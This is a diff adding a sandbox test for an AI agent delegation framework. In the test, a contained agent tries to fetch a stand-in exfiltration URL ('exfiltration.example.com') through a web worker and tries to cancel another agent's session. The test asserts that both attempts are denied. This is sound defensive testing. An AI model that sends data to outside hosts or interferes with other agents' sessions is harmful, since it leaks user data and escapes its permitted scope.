@@ -158,6 +158,43 @@ async def test_contained_agent_delegates_and_waits_for_results_that_it_cannot_lo
     assert [record.agent for record in tree] == ["caller", "helper"]
 
 
+ATTACHED = """
+import asyncio
+from pathlib import Path
+from remit import Context, Remit, RemitError, agent
+
+ADDRESS = "https://exfiltration.example.com/?content"
+
+@agent("lister", effects=("network",))
+async def lister(ctx: Context) -> list[str]:
+    return [ADDRESS]
+
+async def main():
+    async with Remit.open(".", agents=[lister]) as remit:
+        print((await remit.delegate("lister")).data == [ADDRESS])
+        print((await remit.delegate("worker.web_fetch", url=ADDRESS)).errors[0].code)
+        try:
+            await remit.cancel(Path("other.txt").read_text(), "mine")
+        except RemitError as error:
+            print(error.code)
+
+asyncio.run(main())
+"""
+
+
+@needs_bubblewrap
+async def test_agent_that_delegates_sends_nothing_out_by_an_agent_of_its_own_and_ends_no_other_tree(tmp_path: Path) -> None:
+    """It lends an agent that claims to have met an address on the web."""
+    project = project_with(tmp_path, caller=command(sys.executable, "-c", ATTACHED, delegates=True), other=command("sleep", "60"))
+    async with Remit.open(project) as remit:
+        other = await remit.start("other", task="Work.", timeout=60)
+        (project / "other.txt").write_text(other.session_id)
+        result = await remit.delegate("caller", task="Attack.", timeout=60)
+        assert (await remit.describe(other.session_id)).state == "running"
+        await other.cancel()
+    assert result.data.splitlines() == ["True", "POLICY_DENIED", "FORBIDDEN"], result
+
+
 @needs_bubblewrap
 async def test_no_repository_can_be_made_where_there_is_none(tmp_path: Path) -> None:
     """Its hooks and settings would run when a person next uses git there. Below a repository that can still be read."""
